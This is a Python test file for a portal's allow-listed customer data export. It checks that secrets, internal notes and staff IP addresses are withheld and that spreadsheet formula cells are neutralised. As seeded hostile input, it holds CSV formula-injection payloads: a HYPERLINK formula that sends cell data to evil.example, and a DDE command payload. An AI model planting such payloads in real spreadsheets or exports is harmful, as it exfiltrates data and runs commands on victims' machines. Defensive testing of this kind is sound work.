"""The customer's data export by allow-list (#18): every column classified, checked column by column."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import timedelta

import pytest
from bs4 import BeautifulSoup
from sqlalchemy import func, select

from portal import data_export, mfa
from portal.blueprints.inspections.results import services as results
from portal.blueprints.tickets import services as tickets
from portal.blueprints.tickets.files import CheckedFile
from portal.clock import today_in_tokyo
from portal.exports import neutralise
from portal.extensions import db
from portal.models import Assignment, AuditEvent, InspectionAnswer, OutboxMessage, Role, TicketAttachment, User
from portal.tenancy import tenant_scope
from tests.conftest import PDF_BYTES
from tests.inspection_helpers import add_edition, answer_all, open_round, response_of
from tests.training_helpers import add_course, deliver

FORMULA_COMMENT = '=1+HYPERLINK("http://evil.example/?d="&A1,"詳しくはこちら")'
FORMULA_NAME = "-2+3+cmd|' /C calc'!A0"
FORMULA_NOTE = "+1+HYPERLINK(\"http://evil.example\",\"要確認\")"
INTERNAL_NOTE = "社内メモ: この顧客は要注意"
STAFF_IP = "192.0.2.44"
CUSTOMER_IP = "198.51.100.10"


def test_every_column_of_every_table_is_exported_or_withheld(app):
    """A new table or column fails here until it is classified in portal/data_export.py."""
    unclassified, contradictions = [], []
    for table in app.extensions["sqlalchemy"].metadata.sorted_tables:
        if table.name in data_export.NOT_EXPORTED:
            assert table.name not in data_export.EXPORTS, table.name
            continue
        spec = data_export.EXPORTS.get(table.name)
        if spec is None:
            unclassified.append(table.name)
            continue
        names = {c.name for c in table.c}
        exported, withheld = set(spec.columns), set(spec.withheld)
        unclassified += [f"{table.name}.{c}" for c in sorted(names - exported - withheld)]
        contradictions += [f"{table.name}.{c}" for c in sorted((exported & withheld) | (exported | withheld) - names)]
        assert len(spec.columns) == len(exported), f"{table.name}: a column is listed twice"
        if "organization_id" not in table.c and table.name != "organizations":
            assert table.name in data_export.OWNED_THROUGH, f"{table.name}: how are its rows the organization's?"
    assert unclassified == [], f"classify these in portal/data_export.py (EXPORTS or NOT_EXPORTED): {unclassified}"
    assert contradictions == [], f"listed as both exported and withheld, or not a column: {contradictions}"
    stale = set(data_export.EXPORTS) | set(data_export.NOT_EXPORTED)
    assert stale <= set(app.extensions["sqlalchemy"].metadata.tables), "a classified table no longer exists"


def test_secrets_hashes_and_tokens_are_never_exported():
    users = data_export.EXPORTS["users"]
    for column in ("password_hash", "session_token", "totp_secret_encrypted", "recovery_code_hashes"):
        assert column in users.withheld and column not in users.columns
    for table, column in [("deliveries", "link_salt"), ("inspection_rounds", "link_salt"),
                          ("assignments", "link_hash"), ("inspection_responses", "link_hash"),
                          ("applications", "confirm_token_hash"), ("outbox_messages", "body_text"),
                          ("outbox_messages", "body_html"), ("outbox_messages", "idempotency_key"),
                          ("import_batches", "rows")]:
        assert column in data_export.EXPORTS[table].withheld, (table, column)
    assert "one_time_tokens" in data_export.NOT_EXPORTED


@pytest.fixture
def exported(world, make_user, make_ticket, login_as, run_in_app):
    """Organization A with a bit of everything, some of it hostile; its export, file by file."""
    learner = make_user(Role.LEARNER, world["org_a"], name=FORMULA_NAME, login_id="F1", email="f1@a.example.com")
    recovery = ["abcde-fghjk", "mnpqr-stuvw"]
    secrets_of_admin = run_in_app(lambda: _enroll_admin(world["admin_a"].id, recovery))
    record = make_ticket(world["admin_a"], subject="=SUM(A1:A9)", body="ログインできません",
                         files=[("画面.pdf", "application/pdf", PDF_BYTES)])
    run_in_app(lambda: _staff_work(world, record.id))
    course = run_in_app(lambda: add_course(organization_id=world["org_a"].id, questions=2))
    run_in_app(lambda: deliver(world["admin_a"], course.id, learner_ids=[learner.id]))
    run_in_app(lambda: _inspection_with_action(world, learner))
    response = login_as(world["admin_a"]).get("/org/export")
    assert response.status_code == 200 and response.headers["Content-Type"] == "application/zip"
    archive = zipfile.ZipFile(io.BytesIO(response.data))
    files = {}
    for name in archive.namelist():
        raw = archive.read(name)
        assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw, name
        files[name.removesuffix(".csv")] = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    return {"files": files, "raw": response.data, "archive": archive, "secrets": secrets_of_admin,
            "recovery": recovery, "learner": learner}


def _enroll_admin(admin_id: int, codes: list[str]) -> dict:
    user = db.session.get(User, admin_id)
    user.totp_secret_encrypted = mfa.encrypt_secret(mfa.new_secret())
    user.recovery_code_hashes = [mfa.hash_recovery_code(user, c) for c in codes]
    db.session.flush()
    return {"password_hash": user.password_hash, "session_token": user.session_token,
            "totp": user.totp_secret_encrypted, "recovery": list(user.recovery_code_hashes)}


def _staff_work(world, ticket_id: int) -> None:
    support = db.session.get(User, world["support"].id)
    with tenant_scope(world["org_a"].id):
        ticket = tickets.load_ticket_for_view(ticket_id, staff=True)
        tickets.staff_reply(ticket, support, INTERNAL_NOTE, [CheckedFile("内部.pdf", "application/pdf", PDF_BYTES)],
                            internal=True)
        tickets.staff_reply(ticket, support, "再設定の手順をお送りします。")
    db.session.add_all([
        AuditEvent(actor_id=world["operator"].id, organization_id=world["org_a"].id, action="org.status_changed",
                   ip=STAFF_IP, details={"reason": "運営の内部メモ"}),
        AuditEvent(actor_id=world["admin_a"].id, organization_id=world["org_a"].id, action="learners.created",
                   ip=CUSTOMER_IP, details={"count": 1}),
    ])
    db.session.flush()


def _inspection_with_action(world, learner) -> None:
    org_id = world["org_a"].id
    edition_id, item_ids = add_edition(org_id, items=1)
    admin = db.session.get(User, world["admin_a"].id)
    inspection_round = open_round(admin, edition_id, person_ids=[learner.id])
    response = response_of(inspection_round.id, learner.id)
    answer_all(response.id, {item_ids[0]: "no"}, comment=FORMULA_COMMENT)
    with tenant_scope(org_id):
        answer = db.session.scalar(select(InspectionAnswer).where(InspectionAnswer.response_id == response.id))
        results.open_action(answer, results.ActionInput(owner_id=admin.id, due_on=today_in_tokyo() + timedelta(days=7),
                                                        notes=FORMULA_NOTE), by=admin)


def test_the_export_zip_column_by_column(exported, world, app, run_in_app):
    files = exported["files"]
    # What must stay behind is really in the database.
    stored = run_in_app(lambda: (
        sorted(db.session.scalars(select(TicketAttachment.filename))),
        db.session.scalar(select(func.count(OutboxMessage.id)).where(
            OutboxMessage.organization_id == world["org_a"].id,
            OutboxMessage.to_address == app.config["SUPPORT_EMAIL"])),
        db.session.scalar(select(func.count(Assignment.id))),
    ))
    assert stored[0] == ["内部.pdf", "画面.pdf"] and stored[1] == 1 and stored[2] == 1
    # Exactly the allow-listed tables, each with exactly its allow-listed columns in that order.
    assert set(files) == set(data_export.EXPORTS)
    for name, rows in files.items():
        assert rows[0] == list(data_export.EXPORTS[name].columns), name
        assert all(len(r) == len(rows[0]) for r in rows), name
    table = {name: [dict(zip(rows[0], r, strict=True)) for r in rows[1:]] for name, rows in files.items()}

    assert [o["name"] for o in table["organizations"]] == ["株式会社エー"]
    users = {u["id"]: u for u in table["users"]}
    assert str(world["learner_b"].id) not in users and str(world["support"].id) not in users
    assert users[str(world["admin_a"].id)]["email"] == world["admin_a"].email

    # Internal notes (and their attachments) stay; the customer's and the answer leave.
    bodies = [m["body"] for m in table["ticket_messages"]]
    assert bodies == ["ログインできません", "再設定の手順をお送りします。"]
    assert {m["internal"] for m in table["ticket_messages"]} == {"False"}
    assert [a["filename"] for a in table["ticket_attachments"]] == ["画面.pdf"]
    assert "ticket_events" not in files

    # Staff actions stay on the trail without their IP address or notes; the customer's keep theirs.
    events = {e["action"]: e for e in table["audit_events"]}
    assert events["org.status_changed"]["ip"] == "" and events["org.status_changed"]["details"] == ""
    assert events["learners.created"]["ip"] == CUSTOMER_IP and events["learners.created"]["details"] == '{"count": 1}'

    # Emails: to the organization's people only, never the body; alerts to the support desk stay.
    assert table["outbox_messages"], "invitations and ticket answers went to the organization's people"
    addresses = {m["to_address"] for m in table["outbox_messages"]}
    organization_people = {u["email"] for u in table["users"]}
    assert addresses <= organization_people

    # The course the organization wrote comes with its lessons and questions.
    assert table["questions"] and table["choices"]
    assert {q["course_id"] for q in table["questions"]} <= {c["id"] for c in table["courses"]}


def test_no_secret_hash_token_or_internal_note_anywhere_in_the_zip(exported, run_in_app):
    text = "\n".join(exported["archive"].read(n).decode("utf-8-sig") for n in exported["archive"].namelist())
    leaks = [exported["secrets"]["password_hash"], exported["secrets"]["session_token"], exported["secrets"]["totp"],
             *exported["secrets"]["recovery"], INTERNAL_NOTE, STAFF_IP, "運営の内部メモ", "内部.pdf"]

    def stored_secrets():
        from portal.models import (
            Assignment,
            Delivery,
            InspectionResponse,
            InspectionRound,
            OutboxMessage,
            TicketAttachment,
        )

        values = []
        for model, column in [(Delivery, "link_salt"), (InspectionRound, "link_salt"), (Assignment, "link_hash"),
                              (InspectionResponse, "link_hash"), (TicketAttachment, "stored_name"),
                              (OutboxMessage, "idempotency_key")]:
            values += [v for v in db.session.scalars(select(getattr(model, column))) if v]
        return values

    leaks += run_in_app(stored_secrets)
    assert len(leaks) > 12
    assert [leak for leak in leaks if leak in text] == []


def test_formula_cells_in_the_zip_are_neutralised(exported):
    files = exported["files"]

    def column(name, field):
        header = files[name][0]
        return [r[header.index(field)] for r in files[name][1:]]

    assert "'" + FORMULA_COMMENT in column("inspection_answers", "comment")
    assert "'" + FORMULA_NAME in column("users", "name")
    assert "'" + FORMULA_NOTE in column("corrective_actions", "notes")
    assert "'=SUM(A1:A9)" in column("tickets", "subject")
    # No cell of the whole zip starts like a formula.
    starts = ("=", "+", "-", "@", "\t", "\r")
    live = [(n, cell) for n, rows in files.items() for r in rows[1:] for cell in r if cell.startswith(starts)]
    assert live == []


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+HYPERLINK(\"http://x\")", "'=1+HYPERLINK(\"http://x\")"),
        ("-2+3", "'-2+3"),
        ("+81 3", "'+81 3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        (-5, "-5"),
        (3.5, "3.5"),
        ("山田", "山田"),
    ],
)
def test_one_neutraliser_for_every_cell(value, expected):
    assert neutralise(value) == expected


def test_the_organizations_audit_page_shows_its_peoples_ip_but_not_the_staffs(world, login_as, run_in_app):
    run_in_app(lambda: db.session.add_all([
        AuditEvent(actor_id=world["operator"].id, organization_id=world["org_a"].id, action="org.status_changed",
                   ip=STAFF_IP),
        AuditEvent(actor_id=world["admin_a"].id, organization_id=world["org_a"].id, action="learners.created",
                   ip=CUSTOMER_IP),
    ]))
    page = login_as(world["admin_a"]).get("/org/audit").get_data(as_text=True)
    operations = [td.get_text(strip=True) for td in BeautifulSoup(page, "html.parser").select('td[data-label="操作"]')]
    assert CUSTOMER_IP in page and "組織の利用状態を変更" in operations and STAFF_IP not in page
    operator_page = login_as(world["operator"]).get("/operator/audit").get_data(as_text=True)
    assert STAFF_IP in operator_page and CUSTOMER_IP in operator_page
